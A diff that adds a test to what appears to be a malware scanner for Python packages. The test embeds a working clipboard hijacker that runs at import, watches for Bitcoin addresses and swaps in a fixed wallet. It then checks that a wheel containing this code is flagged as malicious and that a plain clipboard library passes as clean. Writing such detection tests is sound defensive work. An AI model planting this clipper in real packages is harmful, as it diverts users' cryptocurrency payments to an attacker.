@@ -169,3 +169,28 @@ def test_sourceless_bytecode_is_flagged_and_its_strings_are_read() -> None:
                           "fastjsonx/__pycache__/core.cpython-311.pyc": _pyc("X = 1\n"),
                           "fastjsonx-1.0.dist-info/METADATA": meta})
     assert not [s for s in facts_of(cached).signals if s.file.endswith(".pyc")]  # a cache next to its source
+
+
+CLIPPER = '''
+import pyperclip, re, time, threading
+ADDR = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
+def watch():
+    while True:
+        text = pyperclip.paste()
+        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
+            pyperclip.copy(ADDR)
+        time.sleep(0.5)
+threading.Thread(target=watch, daemon=True).start()
+'''
+
+
+def test_clipboard_swapped_for_a_wallet_address_at_import_is_a_clipper() -> None:
+    meta = "Metadata-Version: 2.1\nName: cryptoutils-x\nVersion: 1.0.2\nSummary: utils\n"
+    data = wheel_bytes({"cryptoutils_x/__init__.py": CLIPPER, "cryptoutils_x-1.0.2.dist-info/METADATA": meta})
+    v, strong = verdict(data)
+    assert v == "malicious" and "package.clipboard-hijack:critical" in strong, strong
+    # a clipboard library: the same calls, in functions its users call
+    library = ("import pyperclip\n\ndef get():\n    return pyperclip.paste()\n\n"
+               "def put(text):\n    pyperclip.copy(text)\n")
+    meta = "Metadata-Version: 2.1\nName: clipkit\nVersion: 2.0\nSummary: clipboard helpers\n"
+    assert verdict(wheel_bytes({"clipkit/__init__.py": library, "clipkit-2.0.dist-info/METADATA": meta}))[0] == "clean"
